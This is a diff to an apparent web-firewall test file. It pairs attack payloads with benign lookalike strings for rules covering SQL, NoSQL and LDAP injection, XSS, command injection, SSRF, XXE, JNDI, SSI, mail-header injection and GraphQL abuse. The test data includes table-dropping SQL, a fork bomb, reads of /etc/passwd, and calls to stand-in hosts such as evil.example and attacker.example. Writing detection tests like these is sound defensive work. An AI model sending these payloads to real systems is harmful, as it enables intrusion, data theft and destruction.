@@ -6,6 +6,7 @@ def ua(s): return {"method": "GET", "uri": "/", "headers": [["User-Agent", s]]}
 def uri(u, method="GET"): return {"method": method, "uri": u}
 def hdr(name, val): return {"method": "GET", "uri": "/", "headers": [[name, val]]}
 def body(ct, b, method="POST"): return {"method": method, "uri": "/api", "headers": [["Content-Type", ct]], "body": b}
+def gq(q): return {"method": "POST", "uri": "/graphql", "headers": [["Content-Type", "application/json"]], "body": json.dumps({"query": q})}
 def upload(name):
     b = "--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: application/octet-stream\r\n\r\ndata\r\n--XyZ--\r\n" % name
     return {"method": "POST", "uri": "/upload", "headers": [["Content-Type", "multipart/form-data; boundary=XyZ"]], "body": b}
@@ -20,7 +21,7 @@ V = {
  "rp-sqli-011": (["( binary ( select 'b')) --", "1') #", "x'))--"], ["(see note) - thanks", "SCRAPBOOK PAPER (300 DPI) --"]),
  "rp-sqli-012": (["1' * id - '0", "'<='", "aa'^(0)='0"], ["it's a 'quote'", "\"hello\" and \"bye\""]),
  "rp-sqli-007": (["1 or 1=1", "x and 'a'='a'--", "0 || 2>1"], ["1 + 1 = 2, and 2 * 3 = 6.", "either/or"]),
- "rp-sqli-008": (["1 and 1=1--", "1) or sleep(3)", "5 order by 3--"], ["1950 or 1960", "00 and 3"]),
+ "rp-sqli-008": (["1 and 1=1--", "1) or sleep(3)", "5 order by 3--", body("text/plain", "id=1 or 1=1--")], ["1950 or 1960", "00 and 3"]),
  "rp-sqli-009": (["(select 1 from dual)", "char(65,66)", "concat_ws(0x3a,user(),database())"], ["Select your size from the chart below", "concat the strings"]),
  "rp-sqli-020": (["1' or 'a'='a' -- ", "-1 union select username, password from users", "admin'; drop table accounts; --", "1 and (select count(*) from sysobjects)>0"], ["O'Brien's pub", "Select the plan that suits you", "it's 5 o'clock -- time to go"]),
  "rp-xss-020": (["<svg/onload=alert(1)>", "\" autofocus onfocus=\"alert(1)", "<a href=\"javascript:alert(1)\">x</a>", "';alert(document.domain)//"], ["<p>Hello <b>there</b></p>", "a < b and c > d", "I <3 you"]),
@@ -54,7 +55,7 @@ V = {
  "rp-rce-032": (["system('id')", "shell_exec($_GET['c'])", "file_get_contents('/etc/passwd')"], ["the system (2024)", "include a note"]),
  "rp-rce-033": (["$f('id');", "(system)('id')", "eval($_POST['x'])"], ["my document (2).pdf", "ceiling height(9ft)"]),
  "rp-rce-031": (["require('child_process').exec('id')", "this.constructor.constructor('return process')()", "{\"__proto__\":{\"x\":1}}"], ["constructors build things", "require a login"]),
- "rp-rce-040": (["ifconfig", "time ifconfig", "ansible all -m ping", "nohup sh -c whoami", "uname -a"], ["ping me when you're free", "curl bar for shower", "bash the trash podcast", "`python -m venv .venv` creates it"]),
+ "rp-rce-040": (["ifconfig", "time ifconfig", "ansible all -m ping", "nohup sh -c whoami", "uname -a", body("text/plain", "code=ansible-playbook site.yml\n"), body("text/plain", "code=time; chef-client -t 1.1.1.1"), "visudo"], ["ping me when you're free", "curl bar for shower", "bash the trash podcast", "`python -m venv .venv` creates it"]),
  "rp-rce-041": ([ua("ansible all -m ping"), ua("nohup ifconfig"), ua(";whoami")], [ua("Ruby"), ua("curl/8.10.1"), ua("python-requests/2.32.3")]),
  "rp-rce-042": (["c$@at /et$@c/pas$@swd", "uname$u -a", "ping`` 127.0.0.1", "x;cat<<<ifconfig", "{,ifconfig}", "cat /etc/pa[s]swd", ":(){ :|:& };:"], ["He-B[kpueYH6v&X$Rk", "price: US$5 each", "{a, b}", "/users/[id]/edit"]),
  "rp-rce-043": (["a=/etc&&b=/passwd&&c=cat&&$c $a$b", "CMD=$'sleep 5';$CMD", "alias a=b", ";iwr http://x/a.ps1", "bash -c 'id'"], ["a=1&b=2", "alias names are fine", "the bash party"]),
@@ -74,10 +75,21 @@ V = {
  "rp-proto-018": ([uri("/foo%0abar"), uri("/?test=a%12b")], [uri("/foo?x=a%0Ab"), uri("/caf%C3%A9")]),
  "rp-proto-019": ([hdr("Proxy", "http://evil:8080"), hdr("Lock-Token", "<opaquelocktoken:x>")], [hdr("Proxy-Connection", "keep-alive"), hdr("If-None-Match", "\"abc\"")]),
  "rp-ssrf-001": (["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:a9fe:a9fe]/"], ["https://example.com/169", "http://api.example.com/metadata-service"]),
- "rp-ssrf-002": (["http://127.0.0.1:8080/admin", "http://0x7f000001/", "http://10.0.0.5/internal", "http://2130706433/"], ["https://example.com/", "http://203.0.113.5/"]),
+ "rp-ssrf-002": (["http://127.0.0.1:8080/admin", "http://0x7f000001/", "http://10.0.0.5/internal", "http://2130706433/", "http:127.0.0.1", "http:2852039166"], ["https://example.com/", "http://203.0.113.5/", "http:example.com"]),
  "rp-ssrf-003": (["gopher://127.0.0.1:6379/_x", "file:///etc/passwd", "dict://localhost:11211/stat"], ["https://example.com/file", "ftp is old"]),
  "rp-nosqli-001": (uri("/login?user[$ne]=x&pass[$ne]=x"), body("application/json", "{\"user\": {\"$gt\": \"\"}}"), ["plain"]),
- "rp-nosqli-002": (["{\"$where\": \"sleep(1000)\"}", "'; return true; var x='", "this.password.match(/.*/)"], ["price $10", "where is my order"]),
+ "rp-ldap-001": (["*)(uid=*))(|(uid=*", ")(cn=*", "admin)(|(objectclass=*)", "x*)(&(userpassword=*)"], ["(555) 010-9999", "see (a) and (b)", "smile :) (cn is my initials)", "a*) footnote (see page 2)"]),
+ "rp-ssi-001": (["<!--#exec cmd=\"id\"-->", "<!-- #include virtual=\"/etc/passwd\" -->", "<!--#echo var=\"DOCUMENT_ROOT\"-->"], ["<!-- comment -->", "#include <stdio.h>", "<!-- TODO: exec the job later -->"]),
+ "rp-mail-001": (["x\r\nRCPT TO:<victim@example.com>", "a\r\nA1 LOGOUT", "hi\r\nMAIL FROM:<a@b.example>\r\nDATA\r\n", "t\r\na001 STATUS INBOX (MESSAGES)", "m\r\nRETR 1\r\n", "y\nd store 2 +FLAGS (\\Deleted)"], ["Dear team,\r\nplease list the items\r\nThanks", "line one\nData shows growth\nbye", "Hi\r\nI login every day\r\nregards", "Top 10 tips\nfor travel", "notes:\nquit smoking in 2021"]),
+ "rp-unc-001": (["\\\\attacker.example\\share\\x.dll", "file://///evil.example/share", "\\\\127.0.0.1@SSL@443\\DavWWWRoot\\a", "\\\\?\\UNC\\host\\c$", "file://fileserver/public/a.txt"], ["C:\\Users\\me\\file.txt", "regex \\\\d+ matches digits", "file:///home/me/notes.txt", "a\\\\b"]),
+ "rp-xxe-001": ([body("application/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><x>&x;</x>"), body("text/xml", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/d.dtd\"> %p;]><r/>"), "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>"], ["<!DOCTYPE html><html></html>", "<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>hi</note>", "the entity system of the game"]),
+ "rp-xss-007": (["top?.[\"al\"+\"ert\"](1)", "window['ev'+'al']('x')", "self?.alert?.(1)", "[].sort.call`${alert}1`", "(document)[\"cookie\"]", "document /*x*/ . cookie", "(![]+[])[+!+[]]", "top['alert'](1)"], ["JavaScript: the good parts", "window['dataLayer'] = window['dataLayer'] || []", "![](image.png) look at this", "user?.name ?? 'guest'", "cookies and cream", "document.getElementById('x')", "the window shop top ten"]),
+ "rp-graphql-001": ([gq("{ __schema { types { name } } }"), gq("query { __type(name: \"User\") { fields { name } } }")], [gq("{ user(id: 1) { __typename name } }"), gq("{ schema { version } }")]),
+ "rp-graphql-002": ([gq("{ a { b { c { d { e { f { g { h { i { j { k { l } } } } } } } } } } } }")], [gq("{ a { b { c { d } } } }"), gq("{ a { b } c { d } e { f } g { h } i { j } k { l } m { n } o { p } q { r } s { t } }")]),
+ "rp-graphql-003": ([gq("{ " + " ".join("a%d: user(id: %d) { id }" % (i, i) for i in range(20)) + " }")], [gq("{ me: user(id: 1) { id } them: user(id: 2) { id } }"), gq("query Q($id: ID!, $n: Int) { user(id: $id) { posts(first: $n) { title } } }")]),
+ "rp-graphql-004": ([gq(" ".join("query q%d { me { id } }" % i for i in range(6)))], [gq("query A { me { id } } query B { you { id } }"), gq("mutation { addPost(title: \"query mutation query\") { id } }")]),
+ "rp-ssrf-004": (["localhost/", "localtest.me/admin", "kubernetes.default.svc.cluster.local/", "host.docker.internal:2375/"], ["local host", "localhost is where I test", "example.com/internal", "internal"]),
+ "rp-nosqli-002": (["{\"$where\": \"sleep(1000)\"}", "'; return true; var x='", "this.password.match(/.*/)", "', $where: '1 == 1'", "x', $or: [ {}, { 'a':'a", "';it=new Date();do{pt=new Date();}while(pt-it<5000);"], ["price $10", "where is my order", "costs $5: cheap", "john+order@x.com", "it's done; start the build"]),
  "rp-ssti-001": (["{{7*7}}", "${7*7}", "{{config.__class__.__init__.__globals__}}", "<%= 7*7 %>"], ["{{ name }}", "costs ${price}"]),
  "rp-jndi-001": (["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://x/y}", "${${::-j}${::-n}${::-d}${::-i}:dns://x}"], ["${HOME}", "jndi docs"]),
  "rp-scanner-001": ([ua("sqlmap/1.7.2#stable (https://sqlmap.org)"), ua("Mozilla/5.0 (compatible; Nmap Scripting Engine)"), ua("Nuclei - Open-source project")], [ua("Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0"), ua("urlgrabber/3.10 yum/3.4.3")]),
